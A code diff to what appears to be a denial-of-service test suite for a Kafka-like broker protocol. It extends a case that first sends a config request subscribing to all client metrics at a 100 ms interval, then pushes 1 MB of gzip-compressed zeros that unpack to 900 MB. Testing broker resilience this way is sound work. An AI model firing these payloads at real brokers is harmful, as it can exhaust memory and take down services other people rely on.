@@ -24,12 +24,19 @@ from minibroker_protocol.messages.describe_user_scram_credentials import (
     UserName,
 )
 from minibroker_protocol.messages.get_telemetry_subscriptions import GetTelemetrySubscriptionsRequest
+from minibroker_protocol.messages.incremental_alter_configs import (
+    AlterableConfig,
+    AlterConfigsResource,
+    IncrementalAlterConfigsRequest,
+)
 from minibroker_protocol.messages.push_telemetry import PushTelemetryRequest
 
 _CASES = Cases()
 case = _CASES.case
 _LITERAL, _READ, _ALLOW = 3, 3, 3
 _SCRAM_SHA_512, _MOST_ITERATIONS = 2, 16_384
+_CLIENT_METRICS = 16
+"""The resource type of subscriptions to clients' metrics."""
 _GZIP = 1
 _SECURED = replace(WATCHED, is_secured=True)
 _SLOW = replace(WATCHED, names_take_s=2.0)
@@ -143,8 +150,21 @@ def describe_users(target: Target, size: int) -> Attack:
     return sent((DescribeUserScramCredentialsRequest(users=users), 0))
 
 
-@case("PushTelemetry of 1 MB that unpacks to 900 MB", 900)
+@case(
+    "PushTelemetry of 1 MB that unpacks to 900 MB",
+    900,
+    alone="it serves this only with a plug-in that receives metrics",
+)
 def push_telemetry(target: Target, size: int) -> Attack:
+    wanted = AlterConfigsResource(
+        resource_type=_CLIENT_METRICS,
+        resource_name=target.tag,
+        configs=[
+            AlterableConfig(name="metrics", config_operation=0, value="*"),
+            AlterableConfig(name="interval.ms", config_operation=0, value="100"),
+        ],
+    )
+    target.ask(IncrementalAlterConfigsRequest(resources=[wanted], validate_only=False), 1)
     subscribed = target.ask(GetTelemetrySubscriptionsRequest(client_instance_id=bytes(16)), 0)
     packer = zlib.compressobj(9, zlib.DEFLATED, 31)
     zeros = bytes(1_000_000)
